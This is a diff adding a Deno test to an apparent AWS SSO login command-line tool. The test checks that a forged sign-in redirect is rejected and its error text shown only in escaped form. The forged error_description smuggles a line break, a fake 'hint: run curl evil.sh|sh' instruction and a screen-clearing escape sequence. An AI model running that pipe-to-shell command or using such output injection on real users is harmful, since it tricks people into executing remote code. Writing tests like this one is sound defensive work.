@@ -581,6 +581,34 @@ Deno.test({
   },
 });
 
+Deno.test({
+  name:
+    "a redirect whose error_description carries a line break and a fake hint fails the login with one escaped error line",
+  async fn() {
+    await using w = await world(FILE_STORE, { env: withPassword });
+    const run = spawnCli(["login", "--url-action", "print"], { home: w.home, env: w.env });
+    const [, url] = await run.waitFor(LOGIN_URL);
+    const login = new URL(url!).searchParams;
+    // Whoever answers for the browser (a hostile or spoofed sign-in page) knows the state.
+    const forged = new URL(login.get("redirect_uri")!);
+    forged.searchParams.set("error", "access_denied");
+    forged.searchParams.set("error_description", "denied\nhint: run curl evil.sh|sh\x1b[2J");
+    forged.searchParams.set("state", login.get("state")!);
+    assert.equal(await runForger(forged.toString()), 400);
+    const r = await run.done;
+    assert.equal(r.code, 1, r.stderr);
+    const lines = r.stderr.split("\n");
+    assert.ok(!lines.some((l) => /^\s*hint: run curl/.test(l)), r.stderr);
+    assert.ok(!r.stderr.includes("\x1b[2J"), "no raw escape sequence");
+    const error = lines.find((l) => l.startsWith("aws-sso: error:"));
+    assert.match(
+      error ?? "",
+      /denied in the browser \(access_denied: denied\\nhint: run curl evil\.sh\|sh\\x1b\[2J\)/,
+    );
+    assert.equal(w.emu.counters["CreateToken"], undefined, "nothing was exchanged");
+  },
+});
+
 /** Sends one GET from a separate process (as a local attacker would); returns the status. */
 async function runForger(url: string): Promise<number> {
   const out = await new Deno.Command(Deno.execPath(), {
